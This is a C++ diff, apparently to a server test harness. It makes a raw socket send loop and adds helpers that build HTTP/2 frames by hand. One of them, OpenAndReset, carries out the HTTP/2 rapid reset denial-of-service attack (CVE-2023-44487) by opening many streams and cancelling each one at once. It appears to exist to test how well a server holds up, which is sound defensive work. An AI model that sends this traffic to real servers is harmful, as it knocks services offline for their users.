@@ -209,7 +209,15 @@ class RawConnection {
   RawConnection(const RawConnection&) = delete;
   RawConnection& operator=(const RawConnection&) = delete;
   bool connected() const { return connected_; }
-  void Say(std::string_view bytes) { (void)!send(fd_, bytes.data(), bytes.size(), MSG_NOSIGNAL); }
+  // False: the other side has ended the connection.
+  bool Say(std::string_view bytes) {
+    while (!bytes.empty()) {
+      const ssize_t sent = send(fd_, bytes.data(), bytes.size(), MSG_NOSIGNAL);
+      if (sent <= 0) return false;
+      bytes.remove_prefix(static_cast<std::size_t>(sent));
+    }
+    return true;
+  }
   // True once the other side has closed.
   bool Closed() {
     char buffer[4096];
@@ -223,6 +231,31 @@ class RawConnection {
   int fd_ = -1;
   bool connected_ = false;
 };
+
+// A frame of HTTP/2.
+inline std::string HttpFrame(char type, char flags, std::uint32_t stream, const std::string& payload) {
+  const auto byte = [](std::size_t number, int shift) { return static_cast<char>(number >> shift & 0xff); };
+  std::string bytes = {byte(payload.size(), 16), byte(payload.size(), 8), byte(payload.size(), 0), type, flags};
+  for (int shift = 24; shift >= 0; shift -= 8) bytes.push_back(byte(stream, shift));
+  return bytes + payload;
+}
+
+// HTTP/2 rapid reset (CVE-2023-44487): opens streams with this path and, with `reset`, resets each one at once. No
+// settings are acknowledged. Ends early where the other side ends the connection.
+inline void OpenAndReset(RawConnection* connection, const std::string& path, std::uint32_t streams, bool reset = true) {
+  const std::string header = std::string("\x83\x86\x44") + static_cast<char>(path.size()) + path + "\x41\x01" + "a" +
+                             "\x40\x02te\x08trailers" + "\x5f\x10" + "application/grpc";
+  const std::string cancel("\0\0\0\x08", 4);
+  std::string bytes = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + HttpFrame(4, 0, 0, "");
+  if (streams == 0) connection->Say(bytes);
+  for (std::uint32_t n = 0; n < streams; ++n) {
+    bytes += HttpFrame(1, 4, 2 * n + 1, header);
+    if (reset) bytes += HttpFrame(3, 0, 2 * n + 1, cancel);
+    if (n % 100 != 99 && n + 1 != streams) continue;
+    if (!connection->Say(bytes) || connection->Closed()) return;
+    bytes.clear();
+  }
+}
 
 inline std::string Noise(std::size_t bytes, std::uint64_t seed) {
   std::string noise;
